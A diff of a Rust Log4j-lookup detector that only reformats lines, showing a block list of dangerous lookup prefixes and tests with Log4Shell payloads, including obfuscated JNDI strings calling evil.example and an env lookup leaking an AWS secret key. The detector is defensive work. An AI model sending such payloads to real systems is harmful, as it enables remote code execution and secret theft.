@@ -5,7 +5,10 @@
 
 /// Lookup prefixes an attacker uses: JNDI fetches remote code, the others leak secrets into a
 /// JNDI address or a log line.
-const DANGEROUS: &[&[u8]] = &[b"jndi:", b"env:", b"sys:", b"java:", b"ctx:", b"main:", b"bundle:", b"docker:", b"k8s:", b"spring:", b"web:", b"log4j:"];
+const DANGEROUS: &[&[u8]] = &[
+    b"jndi:", b"env:", b"sys:", b"java:", b"ctx:", b"main:", b"bundle:", b"docker:", b"k8s:",
+    b"spring:", b"web:", b"log4j:",
+];
 
 /// Whether `value` holds a dangerous Log4j lookup, after resolving nested ones.
 pub(crate) fn has_lookup(value: &[u8]) -> bool {
@@ -15,7 +18,12 @@ pub(crate) fn has_lookup(value: &[u8]) -> bool {
     let resolved = resolve(value);
     let lower = resolved.to_ascii_lowercase();
     memchr::memmem::find_iter(&lower, b"${").any(|at| {
-        let rest: Vec<u8> = lower[at + 2..].iter().copied().filter(|b| !b.is_ascii_whitespace()).take(16).collect();
+        let rest: Vec<u8> = lower[at + 2..]
+            .iter()
+            .copied()
+            .filter(|b| !b.is_ascii_whitespace())
+            .take(16)
+            .collect();
         DANGEROUS.iter().any(|d| rest.starts_with(d))
     })
 }
@@ -60,7 +68,10 @@ fn substitute(inner: &[u8]) -> Option<Vec<u8>> {
     if let Some(at) = memchr::memmem::find(inner, b":-") {
         return Some(inner[at + 2..].to_vec());
     }
-    if let Some(rest) = lower.strip_prefix(b"lower:").or_else(|| lower.strip_prefix(b"upper:")) {
+    if let Some(rest) = lower
+        .strip_prefix(b"lower:")
+        .or_else(|| lower.strip_prefix(b"upper:"))
+    {
         return Some(rest.to_vec());
     }
     None
@@ -75,7 +86,9 @@ mod tests {
         assert!(has_lookup(b"${jndi:ldap://evil.example/a}"));
         assert!(has_lookup(b"${${lower:J}ndi:${lower:L}dap://x/a}"));
         assert!(has_lookup(b"${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"));
-        assert!(has_lookup(b"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}"));
+        assert!(has_lookup(
+            b"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}"
+        ));
         assert!(has_lookup(b"${ jndi:dns://x}"));
         assert!(has_lookup(b"x ${env:AWS_SECRET_ACCESS_KEY} y"));
     }
